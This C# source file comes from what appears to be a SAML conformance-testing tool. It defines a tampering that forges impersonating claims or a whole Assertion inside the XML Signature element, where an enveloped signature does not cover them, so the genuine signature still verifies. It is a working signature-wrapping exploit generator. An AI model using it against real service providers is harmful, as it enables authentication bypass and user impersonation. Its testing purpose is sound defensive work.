using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>Forged claims in the one place that an enveloped signature does not cover: itself.</summary>
internal sealed class ClaimsInsideSignature(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "claims-inside-signature",
            "Leaves the signed element as it is and puts forged claims into its own Signature, which the enveloped "
            + "transform leaves out.",
            "The IdP's signature verifies over the untouched genuine element; the forged values are not covered.",
            [
                new("at", "Where in the Signature.", ["object", "object-first", "key-info"]),
                new("what", "Subject and AttributeStatement alone, or a whole Assertion.", ["claims", "assertion"]),
                Impersonation.Parameter,
            ]),
        arguments => new ClaimsInsideSignature(arguments));

    public override string Name => "claims-inside-signature";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var signed = SignedPlaces.Outermost(work);
        var forged = Impersonation.Copy(SignedPlaces.Assertion(work), target, work);
        var holder = Holder(Dom.Signature(signed)!, work.Document);
        if (arguments.Text("what") == "assertion")
        {
            holder.AppendChild(forged);
        }
        else
        {
            work.Document.CreateDocumentFragment().AppendChild(forged);
            foreach (var claim in Dom.Children(forged)
                .Where(child => child.LocalName is "Subject" or "AttributeStatement").ToList())
            {
                holder.AppendChild(Dom.Detach(claim));
            }
        }

        work.Claim(new GenuineStands(signed.GetAttribute("ID")));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private XmlElement Holder(XmlElement signature, XmlDocument document)
    {
        switch (arguments.Text("at"))
        {
            case "key-info":
                return Dom.Child(signature, "KeyInfo", SamlNamespaces.XmlSignature)
                    ?? Dom.Append(signature, signature.Prefix, "KeyInfo", SamlNamespaces.XmlSignature);
            case "object-first":
                var first = document.CreateElement(signature.Prefix, "Object", SamlNamespaces.XmlSignature);
                signature.InsertBefore(first, XmlSigner.Descendant(signature, "SignedInfo"));
                return first;
            default:
                return Holders.Object(signature);
        }
    }
}
